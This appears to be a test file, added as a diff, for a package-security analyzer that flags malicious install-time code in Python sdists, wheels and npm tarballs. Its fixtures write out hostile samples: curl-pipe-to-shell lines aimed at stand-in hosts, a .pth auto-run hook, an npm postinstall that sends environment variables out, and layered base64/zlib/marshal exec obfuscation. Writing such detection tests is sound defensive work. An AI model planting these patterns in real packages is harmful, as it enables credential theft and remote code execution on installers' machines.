@@ -1,0 +1,151 @@
+"""Package-level analysis: install-time reasoning across files, layers, verdicts, contexts."""
+
+from __future__ import annotations
+
+import base64
+import marshal
+import zlib
+
+from outwork.analyzers import AnalysisContext, Component
+from outwork.analyzers.packages import PackageAnalyzer
+from outwork.core.artifact import Artifact, classify
+from outwork.core.findings import Fact, Finding
+from outwork.core.rules import Severity
+from tests.analyzers.packages.helpers import npm_tarball, sdist, wheel
+
+SETUP_IMPORTING = "from setuptools import setup\nimport helper\nsetup(name='demo')\n"
+PAYLOAD = "import os\nos.system('echo outwork-test | sh')\n"
+
+
+def run(name: str, data: bytes) -> list[object]:
+    artifact = Artifact(
+        path=name, kind=classify(data[:8192], name, len(data)), size=len(data), data=data
+    )
+    analyzer = PackageAnalyzer()
+    assert analyzer.accepts(artifact)
+    return list(analyzer.analyze(artifact, AnalysisContext()))
+
+
+def findings(items: list[object]) -> list[Finding]:
+    return [i for i in items if isinstance(i, Finding)]
+
+
+def verdict(items: list[object]) -> Finding | None:
+    return next((f for f in findings(items) if f.code == "PKG020"), None)
+
+
+def test_payload_moved_into_imported_module_is_install_time() -> None:
+    items = run(
+        "demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": SETUP_IMPORTING, "helper.py": PAYLOAD})
+    )
+    hits = [f for f in findings(items) if f.code == "PKG001"]
+    assert hits and hits[0].location.path == "demo-1.0/helper.py"
+    assert hits[0].severity is Severity.CRITICAL
+    assert hits[0].properties["context"] == "install"
+    v = verdict(items)
+    assert v is not None and v.severity is Severity.CRITICAL
+    facts = [i for i in items if isinstance(i, Fact)]
+    assert any(
+        f.relation == "executes-at-install" and f.target == "jewel:host-code-execution"
+        for f in facts
+    )
+    assert any(
+        f.source == "entry:public-registry" and f.target == "pkg:pypi/demo@1.0" for f in facts
+    )
+
+
+def test_nested_layers_are_decoded_and_analysed_again() -> None:
+    inner = base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()
+    middle = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{inner}')))\n"
+    outer = base64.b64encode(middle.encode()).decode()
+    setup = f"import base64\nexec(base64.b64decode('{outer}'))\n"
+    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": setup}))
+    codes = {f.code for f in findings(items)}
+    assert {"PKG001", "PKG004"} <= codes
+    command = next(f for f in findings(items) if f.code == "PKG001")
+    assert "layer 2" in command.evidence and command.location.line == 2
+
+
+def test_marshal_payload_is_read_never_loaded() -> None:
+    code = marshal.dumps(compile(PAYLOAD, "<x>", "exec"))
+    blob = base64.b64encode(code).decode()
+    setup = f"import marshal, base64\nexec(marshal.loads(base64.b64decode('{blob}')))\n"
+    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": setup}))
+    hit = next(f for f in findings(items) if f.code == "PKG004")
+    assert "system" in hit.evidence and hit.severity is Severity.CRITICAL
+
+
+def test_builtins_getattr_indirection_resolves() -> None:
+    setup = (
+        "name = ''.join(map(chr, [115, 121, 115, 116, 101, 109]))\n"
+        "getattr(__import__('o' + 's'), name)('curl https://x.invalid/a | sh')\n"
+    )
+    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": setup}))
+    assert any(f.code == "PKG001" and f.location.line == 2 for f in findings(items))
+
+
+def test_pth_in_wheel_runs_at_every_start() -> None:
+    pth = "import os; os.system('curl -s https://x.invalid/p | sh')\n"
+    items = run(
+        "demo-1.0-py3-none-any.whl", wheel("demo", "1.0", {"demo.pth": pth, "demo/__init__.py": ""})
+    )
+    assert any(f.code == "PKG001" and f.location.path == "demo.pth" for f in findings(items))
+
+
+def test_clean_package_scores_zero_and_gets_a_component() -> None:
+    lib = "import subprocess\n\ndef run(cmd):\n    return subprocess.run(cmd)\n"
+    items = run(
+        "demo-1.0.tar.gz",
+        sdist(
+            "demo",
+            "1.0",
+            {"setup.py": "from setuptools import setup\nsetup()\n", "demo/__init__.py": lib},
+        ),
+    )
+    assert verdict(items) is None
+    component = next(i for i in items if isinstance(i, Component))
+    assert component.purl == "pkg:pypi/demo@1.0" and component.properties["outwork:risk-score"] == 0
+
+
+def test_tests_folder_lowers_weight_but_never_hides() -> None:
+    items = run(
+        "demo-1.0.tar.gz",
+        sdist(
+            "demo",
+            "1.0",
+            {"setup.py": "from setuptools import setup\nsetup()\n", "tests/test_x.py": PAYLOAD},
+        ),
+    )
+    hit = next(f for f in findings(items) if f.code == "PKG001")
+    assert hit.severity is Severity.HIGH and "tests" in hit.message
+
+
+def test_npm_postinstall_runs_a_file_that_exfiltrates() -> None:
+    manifest = (
+        '{"name": "demo-npm", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}'
+    )
+    js = "const h=require('https');h.get('https://c.invalid/?e='+JSON.stringify(process.env));"
+    items = run("demo-npm-1.0.0.tgz", npm_tarball(manifest, {"setup.js": js}))
+    hit = next(f for f in findings(items) if f.code == "PKG015")
+    assert hit.severity is Severity.CRITICAL and hit.location.path == "package/setup.js"
+    v = verdict(items)
+    assert v is not None and v.subject == "pkg:npm/demo-npm@1.0.0"
+
+
+def test_minified_javascript_is_parsed() -> None:
+    manifest = '{"name": "demo-min", "version": "1.0.0", "main": "index.js"}'
+    js = (
+        "var a=require('child_process'),b='ZWNobyBvdXR3b3JrLXRlc3QgfCBzaA==';"
+        "a.execSync(Buffer.from(b,'base64').toString());"
+    )
+    items = run("demo-min-1.0.0.tgz", npm_tarball(manifest, {"index.js": js}))
+    assert any(f.code == "PKG015" and f.severity is Severity.CRITICAL for f in findings(items))
+
+
+def test_hostile_archive_finishes() -> None:
+    data = sdist(
+        "demo", "1.0", {"setup.py": "(" * 100_000 + ")" * 100_000, "x.py": "x" * 5_000_000}
+    )
+    items = run("demo-1.0.tar.gz", data)
+    assert any(f.code in ("PKG013", "PKG012") for f in findings(items))
+    assert run("junk.tar.gz", b"\x1f\x8b" + b"\x00" * 100) == []
